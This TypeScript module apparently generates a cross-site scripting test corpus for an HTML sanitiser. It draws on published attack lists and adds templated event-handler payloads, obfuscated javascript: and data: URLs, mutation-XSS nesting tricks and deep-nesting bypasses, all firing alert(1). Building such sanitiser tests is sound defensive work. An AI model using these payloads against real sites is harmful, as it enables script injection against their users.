import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

interface Vector {
  readonly input: string;
}

/**
 * Published attack collections, read from npm packages: html5sec's cheat sheet with Yahoo's additions
 * (html-purify), and Yahoo's fuzzing seeds (xss-filters). Adds the markup and scripts of the naughty strings,
 * mostly OWASP's list.
 */
export function collectPublishedAttacks(): readonly string[] {
  const vectors = require('html-purify/tests/test-vectors.js') as {
    readonly html5secVectors: readonly Vector[];
    readonly generalVectors: readonly Vector[];
  };
  const naughtyStrings = require('big-list-of-naughty-strings') as readonly string[];
  const seeds = readFileSync(require.resolve('xss-filters/tests/fuzz/bin/seed.xss'), 'utf8').split('\n');
  const attacks = [
    ...[...vectors.html5secVectors, ...vectors.generalVectors].map(({ input }) => input),
    ...naughtyStrings.filter((text) => /[<>]|script|\bon\w+\s*=/i.test(text)),
    ...seeds.filter((text) => text.trim() !== ''),
  ];
  return [...new Set(attacks)];
}

const RUN = 'alert(1)';

const owners = [
  ...[
    'img src=x:',
    'img src=/x.png',
    'svg',
    'math',
    'body',
    'p',
    'div',
    'a href=#',
    'a href=/x',
    'table',
    'td',
  ],
  ...[
    'input autofocus',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'form',
    'keygen autofocus',
  ],
  ...[
    'video src=x:',
    'audio src=x:',
    'video><source',
    'object data=x:',
    'embed src=x:',
    'iframe src=/x',
    'marquee',
  ],
  ...[
    'details open',
    'dialog open',
    'style',
    'link rel=stylesheet href=x:',
    'x-own tabindex=0',
    'isindex',
    'br',
  ],
];

const events = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'onpointerenter',
    'ontoggle',
    'onanimationstart',
  ],
  ...[
    'onbegin',
    'onstart',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onscrollsnapchange',
    'ONfocusin',
  ],
];

/**
 * Ways to attach a handler: unquoted, after a line break in an unclosed tag, or after an attribute that
 * contains a quote.
 */
const handlerTemplates: readonly ((owner: string, event: string) => string)[] = [
  (owner, event) => `<${owner} ${event}=${RUN}>a`,
  (owner, event) => `<${owner}\n${event}="${RUN}" x="a>b"`,
  (owner, event) => `<${owner} title='"' ${event}='${RUN}'/>a`,
];

const linkTemplates: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}' target=_self>a</a>`,
  (address) => `<p><a href=\`${address}\`>a</a></p>`,
  (address) => `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=/x.png>`,
  (address) => `<form action="${address}"><button>a</button></form>`,
  (address) => `<button form=f formaction="${address}">a</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<iframe srcdoc="<a href='${address}'>a</a><script>parent.${RUN}</script>"></iframe>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<svg><a xlink:href="${address}"><text x=0 y=20>a</text></a></svg>`,
  (address) =>
    `<svg><use href="${address}#x"></use><image href="${address}"/><script href="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text y=20>a</text></a></svg>`,
  (address) => `<math><mtext href="${address}" xlink:href="${address}">a</mtext></math>`,
  (address) => `<base href="${address}"><a href="x">a</a>`,
  (address) => `<link rel=import href="${address}"><link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) =>
    `<table background="${address}"><tr><td background="${address}" style="background:url(${address})">a</table>`,
  (address) => `<script src="${address}"></script>`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:image/svg+xml,<svg onload='${RUN}'>`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&NewLine;:${RUN}`,
  `javascript://exemplo.test/%0a${RUN}`,
  `https:javascript:${RUN}`,
];

const payloads = [
  `<img src=x: onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<style>@import "//exemplo.test/x.css";*{background:url(//exemplo.test/x)}</style>`,
];

/**
 * Contexts with different parsing rules, where a parser may read text and the browser markup. The last five
 * rewrite the text instead of wrapping it.
 */
const nestingTemplates: readonly ((text: string) => string)[] = [
  (text) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${text}">`,
  (text) => `<svg></p><style><a id="</style>${text}">`,
  (text) => `<form><math><mtext></form><form><mglyph><style></math>${text}`,
  (text) => `<svg><foreignObject><p><style><b title='</style>${text}'>`,
  (text) => `<svg><annotation-xml encoding="text/html"><p>${text}</p></annotation-xml></svg>`,
  (text) => `<math><annotation-xml encoding="text/html"><style>${text}</style></annotation-xml></math>`,
  (text) => `<noscript><p title="</noscript>${text}"></noscript>`,
  (text) => `<textarea><p title="</textarea>${text}"></textarea>`,
  (text) => `<title><p title="</title>${text}"></title>`,
  (text) => `<xmp><p title="</xmp>${text}"></xmp>`,
  (text) => `<noembed><p title="</noembed>${text}"></noembed><noframes>${text}</noframes>`,
  (text) => `<iframe><p title="</iframe>${text}"></iframe>`,
  (text) => `<template>${text}</template><template><script>${RUN}</script>`,
  (text) => `<select><option><style></option></select>${text}</style>`,
  (text) => `<!-->${text}--><!--!>${text}--><!-- --!>${text}`,
  (text) => `<![CDATA[${text}]]><svg><![CDATA[</svg>${text}]]>`,
  (text) => `<?php ${text} ?><%${text}%>`,
  (text) => `<a title="${text.replace(/"/g, '&quot;')}" href="/x">a</a>`,
  (text) => `<img alt='${text}' src=/x.png>`,
  (text) => `<table><caption>${text}</caption><tr>${text}<td>${text}</table>`,
  (text) => `<abbr title="--></style></script></title>${text.replace(/"/g, "'")}">a</abbr>`,
  (text) => text.replace(/<(\w)/g, '<\u0000$1'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/^<(\w+)/, '<<$1<$1'),
  (text) => text.replace(/[a-z]+/g, (word) => word.toUpperCase()).replace(/ALERT/g, 'alert'),
];

export function createEventHandlerAttacks(): readonly string[] {
  return owners.flatMap((owner, ownerIndex) =>
    events.map((event, eventIndex) =>
      (handlerTemplates[(ownerIndex + eventIndex) % handlerTemplates.length] ?? String)(owner, event),
    ),
  );
}

export function createAddressAttacks(): readonly string[] {
  return linkTemplates.flatMap((template) => addresses.map(template));
}

export function createNestedAttacks(): readonly string[] {
  const nestedOnce = nestingTemplates.flatMap((template) => payloads.map(template));
  const nestedTwice = nestingTemplates.flatMap((outerTemplate, outerIndex) =>
    nestingTemplates
      .filter((_, innerIndex) => (outerIndex + innerIndex) % 3 === 0)
      .map((template) => outerTemplate(template(payloads[outerIndex % payloads.length] ?? ''))),
  );
  // Deeper than sanitisers recurse.
  const nestedDeeply = payloads.map((text) => `${'<div>'.repeat(250)}${text}`);
  return [...new Set([...nestedOnce, ...nestedTwice, ...nestedDeeply])];
}
